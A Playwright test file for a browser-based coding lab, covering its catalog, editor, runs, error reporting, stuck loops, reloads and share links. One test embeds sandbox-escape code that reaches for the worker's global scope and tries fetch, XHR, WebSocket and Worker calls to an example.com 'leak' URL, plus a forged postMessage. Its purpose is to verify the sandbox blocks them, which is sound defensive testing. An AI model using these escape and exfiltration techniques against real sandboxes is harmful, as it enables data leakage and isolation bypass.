/**
 * The lab itself, whatever the scenarios: loads offline, edits, compiles, survives a stuck
 * loop, keeps code across reloads, shares links. Uses the first scenario in the catalog.
 */
import { expect, test } from './fixtures.ts';

test.describe.configure({ mode: 'serial' });

async function firstScenario(lab: import('./fixtures.ts').LabPage): Promise<string> {
  await lab.gotoCatalog();
  const ids = await lab.scenarioIds();
  expect(ids.length, 'at least one scenario').toBeGreaterThan(0);
  return ids[0];
}

test('the catalog lists every scenario with its details, offline', async ({ lab, page }) => {
  await lab.gotoCatalog();
  const ids = await lab.scenarioIds();
  for (const id of ids) {
    const card = page.getByTestId(`scenario-card-${id}`);
    await expect(card).toBeVisible();
    await expect(card.getByTestId('solved-status')).toHaveText(/Solved|Not solved/);
  }
  await lab.screenshot('catalog');
});

test('the editor becomes ready and shows the starter', async ({ lab, page }) => {
  const id = await firstScenario(lab);
  await page.getByTestId(`scenario-card-${id}`).click();
  await lab.waitForEditor();
  expect((await lab.code())?.length).toBeGreaterThan(0);
  await expect(page.getByTestId('slo-targets')).toBeVisible();
});

test('Ctrl/Cmd+Enter runs, from the editor or anywhere on the page; runs are kept with their numbers', async ({ lab, page }) => {
  const id = await firstScenario(lab);
  await lab.openScenario(id);
  await lab.focusEditor();
  await page.keyboard.press('ControlOrMeta+Enter');
  expect(await lab.waitForRunEnd()).toBe('done');
  await page.getByTestId('seed-input').focus();
  await page.keyboard.press('ControlOrMeta+Enter');
  await page.waitForFunction(() => window.__tailspin!.runState() !== 'done');
  expect(await lab.waitForRunEnd()).toBe('done');

  // Both runs are kept, with their numbers, across a reload.
  await page.reload();
  await lab.waitForEditor();
  await page.getByTestId('history-tab').click();
  await expect(page.getByTestId('history').locator('li')).toHaveCount(2);
  await expect(page.getByTestId('history').locator('li').first()).toContainText(/p99 [\d.]+ (ms|s)/);
});

test('Stop ends a run, and says so', async ({ lab, page }) => {
  const id = await firstScenario(lab);
  await lab.openScenario(id);
  await lab.run();
  await expect(page.getByTestId('run-button')).toHaveText(/Stop/);
  await page.getByTestId('run-button').click();
  expect(await lab.waitForRunEnd()).toBe('stopped');
  await expect(page.getByTestId('run-message')).toContainText('stopped');
  await expect(page.getByTestId('run-button')).toHaveText(/Run/);
});

test('a compile error becomes an editor marker and a readable message', async ({ lab, page }) => {
  const id = await firstScenario(lab);
  await lab.openScenario(id);
  const starter = (await lab.code())!;
  const lines = starter.split('\n').length;
  await lab.setCode(`${starter}\nconst broken: number = ;\n`);
  await lab.run();
  expect(await lab.waitForRunEnd()).toBe('compileFailed');
  await expect(page.getByTestId('compile-errors')).toContainText(`line ${lines + 1}`);
  const markers = await lab.markers();
  expect(markers.some((m) => m.owner === 'tailspin-compile' && m.line === lines + 1)).toBe(true);
  await expect(page.locator('.monaco-editor .squiggly-error').first()).toBeVisible();
});

test('an exception in the service names its TypeScript line, and a click jumps there', async ({ lab, page }) => {
  const id = await firstScenario(lab);
  await lab.openScenario(id);
  const starter = (await lab.code())!;
  const line = starter.split('\n').length + 2;
  await lab.setCode(`${starter}\n\nthrow new Error('broken on purpose');\n`);
  await lab.run();
  expect(await lab.waitForRunEnd()).toBe('failed');
  const message = page.getByTestId('run-message');
  await expect(message).toContainText('broken on purpose');
  await message
    .getByRole('button', { name: `line ${line}` })
    .first()
    .click();
  expect((await page.evaluate(() => window.__tailspin!.cursor()))?.line).toBe(line);
});

test('a loop that never yields is stopped with a plain message, and the next run works', async ({ lab, page }) => {
  const id = await firstScenario(lab);
  await lab.openScenario(id);
  const starter = (await lab.code())!;
  await lab.setCode(`${starter}\nwhile (true) {}\n`);
  const started = Date.now();
  await lab.run();
  expect(await lab.waitForRunEnd(60_000)).toBe('hung');
  await expect(page.getByTestId('run-message')).toContainText('never yield');
  console.log(`stuck loop stopped after ${((Date.now() - started) / 1000).toFixed(1)} s`);
  // The page stayed responsive throughout; now a normal run must work on the new worker.
  await lab.setCode(starter);
  await lab.run();
  expect(await lab.waitForRunEnd()).toBe('done');
  expect((await lab.lastSummary())?.status).toBe('completed');
});

test('user code cannot reach the network or post to the page', async ({ lab, page }) => {
  const id = await firstScenario(lab);
  await lab.openScenario(id);
  const starter = (await lab.code())!;
  // Every way to the real worker scope we know of, then every way out of it.
  const escapeCode = `
const realms: any[] = [];
for (const get of [() => globalThis, () => (globalThis as any).self, () => Function('return this')(), () => (0, eval)('this')]) {
  try { realms.push(get()); } catch {}
}
for (const g of realms) {
  for (const attempt of [
    () => g.fetch('https://example.com/leak').catch(() => undefined),
    () => new g.XMLHttpRequest().open('GET', 'https://example.com/leak'),
    () => new g.WebSocket('wss://example.com/leak'),
    () => new g.Worker('data:text/javascript,fetch("https://example.com/leak")'),
    () => g.postMessage({ type: 'run.done', runId: 1, summary: {}, simulateMs: 0 }),
  ]) {
    try { attempt(); } catch {}
  }
}
`;
  await lab.setCode(`${starter}\n${escapeCode}`);
  await lab.run();
  expect(await lab.waitForRunEnd()).toBe('done');
  expect((await lab.lastSummary())?.scenarioId).toBe(id);
  // The guard fixture fails the test if any request left 127.0.0.1.
  await page.waitForTimeout(500);
});

test('code typed into the editor survives a reload', async ({ lab, page }) => {
  const id = await firstScenario(lab);
  await lab.openScenario(id);
  const marker = `// kept across reloads ${Date.now()}`;
  await lab.focusEditor();
  await page.keyboard.press('ControlOrMeta+End');
  await page.keyboard.press('Enter');
  await page.keyboard.type(marker);
  await page.reload();
  await lab.waitForEditor();
  expect(await lab.code()).toContain(marker);
});

test('a share link carries scenario, code and seed, and never runs by itself', async ({ lab, page, browser }) => {
  const id = await firstScenario(lab);
  await lab.openScenario(id);
  const code = `${(await lab.code())!}\n// shared ${Date.now()}\n`;
  await lab.setCode(code);
  await lab.setSeed(4242);
  await page.getByTestId('share-button').click();
  const url = await page.getByTestId('share-url').inputValue();
  expect(url).toContain('#/share/');

  // A fresh browser context: nothing in storage, only the link.
  const other = await browser.newContext();
  const page2 = await other.newPage();
  await page2.goto(url);
  await expect(page2.getByTestId('scenario-page')).toHaveAttribute('data-scenario', id);
  await page2.waitForFunction(() => window.__tailspin?.editorReady() === true);
  expect(await page2.evaluate(() => window.__tailspin!.getCode())).toBe(code);
  await expect(page2.getByTestId('seed-input')).toHaveValue('4242');
  await expect(page2.getByTestId('notice')).toContainText('has not been run');
  await page2.waitForTimeout(1000);
  expect(await page2.evaluate(() => window.__tailspin!.runState())).toBe('idle');
  await other.close();
});

test('a malformed share link shows a clear message and breaks nothing', async ({ lab, page }) => {
  await page.goto('/#/share/this-is-not-a-share-link');
  await expect(page.getByTestId('notice')).toContainText('share link is damaged');
  await expect(page.getByTestId('catalog')).toBeVisible();
  // The lab still works after it.
  const id = (await lab.scenarioIds())[0];
  await lab.openScenario(id);
  expect((await lab.code())?.length).toBeGreaterThan(0);
});
